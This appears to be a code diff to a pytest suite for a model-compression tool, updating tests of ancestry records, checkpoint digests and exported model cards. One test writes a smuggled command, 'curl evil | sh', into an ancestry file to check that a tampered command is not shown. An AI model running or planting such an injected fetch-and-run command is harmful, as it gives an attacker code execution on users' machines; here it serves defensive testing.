@@ -12,6 +12,7 @@ import pytest
 import torch
 
 from asc_core.ancestry import ANCESTRY_FILE, Ancestry
+from asc_core.checkpoint.digests import DIGESTS_FILE, write_digests
 from asc_core.compress.step import StepContext
 from asc_core.encoder import Encoder
 from asc_core.errors import UserError
@@ -138,7 +139,8 @@ def test_folders_that_move_together_find_each_other(project: Path) -> None:
 def test_a_cut_folder_that_remembers_nothing_is_not_called_its_own_original(project: Path) -> None:
     task = ("--task", project / "mood.toml")
     run("compress", project / "model", "--plan", project / "plan.json", *task, "-o", project / "smaller")
-    (project / "smaller" / ANCESTRY_FILE).unlink()
+    for name in (ANCESTRY_FILE, DIGESTS_FILE):
+        (project / "smaller" / name).unlink()
     run("export", project / "smaller", *task, "-o", project / "out")
     card = (project / "out/README.md").read_text()
     assert "not recorded" in card
@@ -150,6 +152,7 @@ def test_a_strangers_command_is_not_shown(project: Path) -> None:
     run("compress", project / "model", "--plan", project / "plan.json", "-o", project / "smaller")
     path = project / "smaller" / ANCESTRY_FILE
     path.write_text(path.read_text().replace("asc compress model", "asc compress model; curl evil | sh"))
+    write_digests(project / "smaller")
     run("export", project / "smaller", "-o", project / "out")
     card = (project / "out/README.md").read_text()
     assert "1. cut to" in card
@@ -208,7 +211,7 @@ def test_one_split_for_everything_is_said(project: Path) -> None:
     run("export", project / "model", "--plan", project / "plan.json", *task, "-o", project / "out")
     assert "the same texts chose what was cut, repaired it and measured it" in (project / "out/README.md").read_text()
     run("export", project / "model", "--task", project / "mood.toml", "-o", project / "three-splits")
-    assert "the same texts" not in (project / "three-splits/README.md").read_text()
+    assert "the same texts chose" not in (project / "three-splits/README.md").read_text()
 
 
 def test_a_recipe_holds_its_tasks_content_and_knows_another_one_of_its_name(project: Path) -> None:
